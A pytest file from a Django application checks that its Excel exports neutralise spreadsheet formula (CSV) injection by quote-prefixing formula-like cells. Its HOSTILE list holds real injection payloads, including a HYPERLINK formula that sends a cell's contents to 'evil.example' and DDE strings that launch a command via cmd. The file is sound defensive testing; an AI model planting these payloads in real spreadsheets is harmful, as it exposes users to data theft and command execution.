"""Spreadsheet formulas (OWASP "CSV injection"): text a resident or a clerk typed that starts
with = + - @, a tab or a carriage return is written as a string cell with Excel's quote
prefix (the stored form of a leading apostrophe), so Excel and WPS never evaluate it; the
text reads back as typed, numbers stay numbers. Read back from the produced xlsx files."""

import io
import zipfile
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from liaison.excel import Sheet, formula_like, text_only, write_workbook
from stations.roster import STATION_ROSTER
from stations.roster.template import template_workbook
from tests.factories import make_petition

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["路灯坏了", "a=b", "13812345678", " =1"]


def book(content: bytes):
    return load_workbook(io.BytesIO(content))


def quote_prefixed(cell) -> bool:
    return cell.data_type == "s" and bool(cell.quotePrefix)


def test_which_text_counts_as_a_formula():
    assert all(formula_like(v) for v in HOSTILE)
    assert not any(formula_like(v) for v in [*HARMLESS, -5, 3.5, None, date(2026, 1, 1)])


def test_the_writer_neutralises_every_formula_like_cell_and_leaves_numbers_alone():
    out = io.BytesIO()
    write_workbook(
        out,
        Sheet(
            "t",
            ["text", "number"],
            [[value, -5] for value in [*HOSTILE, *HARMLESS]],
            heading='=HYPERLINK("http://evil")',
            footer=["-total", -10],
        ),
    )
    content = out.getvalue()
    ws = book(content).active
    cells = {cell.coordinate: cell for row in ws.iter_rows() for cell in row}
    texts = [c for c in cells.values() if c.column == 1 and isinstance(c.value, str)]
    typed = {c.coordinate: c.value.replace("\n", "\r") for c in texts}  # XML reads a CR back as LF
    for cell in texts:
        assert quote_prefixed(cell) == formula_like(typed[cell.coordinate]), (cell.coordinate, cell.value)
    assert sum(quote_prefixed(c) for c in texts) == len(HOSTILE) + 2  # the heading and the footer too
    assert [v for v in typed.values() if v in HOSTILE] == HOSTILE  # read back as typed
    numbers = [c for c in cells.values() if c.column == 2 and c.row > 2]
    assert numbers and all(c.value in (-5, -10) and c.data_type == "n" for c in numbers)
    # No formula anywhere in the file: not one <f> element in the sheet's XML.
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml and 'quotePrefix="1"' in archive_styles(content)


def archive_styles(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/styles.xml").decode()


@pytest.mark.django_db
def test_the_ledger_export_neutralises_a_residents_formula(world, client_for):
    for value in HOSTILE[:4]:
        make_petition(station=world.S1, content=value)
    response = client_for(world.staff).get(reverse("petitions:export"))
    assert response.status_code == 200
    ws = book(b"".join(response.streaming_content)).active
    found = [cell for row in ws.iter_rows() for cell in row if cell.value in HOSTILE]
    assert len(found) == 4 and all(quote_prefixed(cell) for cell in found)


def test_an_ordinary_workbook_is_neutralised_too():
    from openpyxl import Workbook

    wb = Workbook()
    wb.active.append(["=1+1", "+1", 7, "ok"])
    text_only(wb.active)
    out = io.BytesIO()
    wb.save(out)
    a, b, c, d = next(book(out.getvalue()).active.iter_rows())
    assert quote_prefixed(a) and quote_prefixed(b) and a.value == "=1+1"
    assert c.value == 7 and c.data_type == "n" and not quote_prefixed(d)


@pytest.mark.django_db
def test_the_roster_template_has_no_formula(world):
    content = template_workbook(STATION_ROSTER, world.admin)
    for ws in book(content).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert (cell.data_type != "f" and not formula_like(cell.value)) or quote_prefixed(cell)
